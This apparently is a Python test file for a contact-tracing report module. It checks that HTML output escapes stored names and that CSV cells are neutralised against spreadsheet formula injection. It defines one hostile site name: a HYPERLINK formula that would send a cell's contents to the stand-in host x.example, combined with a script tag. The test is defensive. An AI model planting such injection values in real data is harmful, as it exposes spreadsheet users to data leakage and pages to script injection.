"""The report wherever it is shown: the HTML holds what the text holds (contacts, their counts, the flooding
warning, the gaps) with no inline script or style attribute, every stored name escaped; CSV cells cannot
be read as formulas."""

from __future__ import annotations

import csv
import datetime
import io
import re
import uuid

import numpy as np
from support.rows import MINUTE, NOW, NOW_MS, code_text, event, flipped, random_codes

from edge.tracer import intake, report, store, trace
from edge.tracer.store import UnitReport

STRIDE, SINCE = datetime.timedelta(minutes=30), datetime.timedelta(days=14)
HOSTILE_SITE = '=HYPERLINK("http://x.example/?"&A1,"<script>alert(1)</script>")'


def renamed(made: intake.Event, site: str) -> intake.Event:
    """The event as if a store held it under another site name (what UNIT_NAME keeps out of a collector)."""
    return intake.build(dict(made.body, site=site, event_id=str(uuid.uuid4())), now_ms=NOW_MS)


def traced(tmp_path, site: str = "campus") -> trace.Trace:
    rng = np.random.default_rng(20)
    query, friend = random_codes(rng, 2)
    at = NOW_MS - 3 * 60 * MINUTE
    made = [event([flipped(query, 10, rng)], at), event([flipped(friend, 20, rng)], at + MINUTE)]
    made += [event([flipped(friend, 20, rng)], at + 2 * MINUTE)]
    db = store.open_store(str(tmp_path / "s.sqlite"))
    db.add([renamed(e, site) if site != "campus" else e for e in made])
    db.add([], [], [UnitReport((site, "library", "unit-1"), "status", at - MINUTE, at - MINUTE, state="offline")])
    db.add([], [], [UnitReport((site, "library", "unit-1"), "status", at + 5 * MINUTE, at, state="online")])
    result = trace.run(db, [code_text(query)], STRIDE, SINCE, now=NOW)
    db.close()
    return result


def test_the_html_holds_the_contacts_table_the_gaps_and_no_inline_script_or_style(tmp_path):
    result = traced(tmp_path)
    body = report.html_body(result)
    [visit] = result.visits
    [contact] = visit.contacts
    assert "first seen (UTC)" in body and "nearest gap" in body
    assert f"<td>{report.when(contact.first_ms)}</td>" in body and "<td>2</td>" in body  # seen twice
    assert f"{contact.gap_ms / 60000:+.1f} min" in body
    assert 'class="gap gap-offline"' in body and "unit-1: offline" in body
    assert "<html" not in body and "<head" not in body
    page = report.as_html(result)
    assert not re.search(r"\sstyle\s*=", page, re.I) and "<script" not in page.lower() and "javascript:" not in page
    assert report.STYLE in page
    for line in report.table(result).splitlines():  # every line of the text report is in the page, escaped
        if line.strip() and not line.startswith(("    first seen", "rank", "    20")):
            assert report.esc(line.strip().split("  ")[0]) in page, line


def test_a_hostile_site_name_is_escaped_in_html_and_neutralised_in_csv(tmp_path):
    result = traced(tmp_path, HOSTILE_SITE)
    page = report.as_html(result)
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    rows = list(csv.reader(io.StringIO(report.as_csv(result))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not any(c.startswith(report.FORMULA_STARTS) for c in cells), cells
    assert "'" + HOSTILE_SITE in cells
    assert {row[0] for row in rows[1:]} == {"sighting", "contact", "gap"}


def test_each_formula_start_is_neutralised_and_numbers_stay_numbers():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert report.cell(start + "1+1") == "'" + start + "1+1"
    assert report.cell("campus") == "campus" and report.cell(-12.5) == -12.5 and report.cell(3) == 3
    assert report.cell("") == ""
